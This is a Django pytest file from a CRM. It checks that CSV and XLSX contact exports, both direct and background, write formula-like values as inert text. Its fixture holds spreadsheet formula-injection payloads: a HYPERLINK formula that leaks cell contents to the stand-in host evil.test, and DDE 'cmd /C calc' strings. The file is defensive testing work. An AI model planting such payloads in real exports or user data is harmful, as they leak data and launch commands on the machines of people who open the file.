"""Exports never hand a spreadsheet a formula: text starting with =, +, -, @, a tab or a
carriage return is written as text in every export (CSV and XLSX, at once or in the
background)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import override_settings
from openpyxl import load_workbook

from crm_core.jobs.models import ExportJob
from crm_core.parties.services import company_create, contact_create

pytestmark = pytest.mark.django_db

HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "last_name": "+1+cmd|' /C calc'!A0",
    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
    "company_name": "-2+3",
}


@pytest.fixture
def hostile_contact(tenant_a):
    owner = tenant_a.owner()
    with tenant_a.active():
        company = company_create(actor=owner, data={"name": HOSTILE["company_name"]})
        contact_create(
            actor=owner,
            data={
                "first_name": HOSTILE["first_name"],
                "last_name": HOSTILE["last_name"],
                "position": HOSTILE["position"],
                "company": company,
            },
        )
    return tenant_a.client(owner)


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _assert_csv_safe(rows: list[list[str]]) -> None:
    row = rows[1]
    assert row[:4] == [
        "'" + HOSTILE["first_name"],
        "'" + HOSTILE["last_name"],
        "'" + HOSTILE["company_name"],
        "'" + HOSTILE["position"],
    ]


def _assert_xlsx_safe(workbook_file) -> None:
    sheet = load_workbook(workbook_file).active
    cells = list(sheet.iter_rows(min_row=2, max_row=2))[0][:4]
    # stored as text, as typed: a string cell is never evaluated
    assert [cell.data_type for cell in cells] == ["s"] * 4
    assert [cell.value for cell in cells] == [
        HOSTILE["first_name"],
        HOSTILE["last_name"],
        HOSTILE["company_name"],
        HOSTILE["position"],
    ]


def test_a_direct_export_writes_formula_like_text_as_text(hostile_contact):
    response = hostile_contact.get("/contacts/export.csv")
    _assert_csv_safe(_csv(b"".join(response.streaming_content)))
    _assert_xlsx_safe(io.BytesIO(hostile_contact.get("/contacts/export.xlsx").content))


@override_settings(EXPORT_DIRECT_ROWS=0)
def test_a_background_export_writes_formula_like_text_as_text(
    tenant_a, hostile_contact, django_capture_on_commit_callbacks
):
    for file_format in ("csv", "xlsx"):
        with django_capture_on_commit_callbacks(execute=True):
            hostile_contact.post(f"/contacts/export.{file_format}", {"query": ""})
    with tenant_a.active():
        jobs = {job.file_format: job for job in ExportJob.objects.all()}
        _assert_csv_safe(_csv(jobs["csv"].file.open("rb").read()))
        _assert_xlsx_safe(jobs["xlsx"].file.open("rb"))
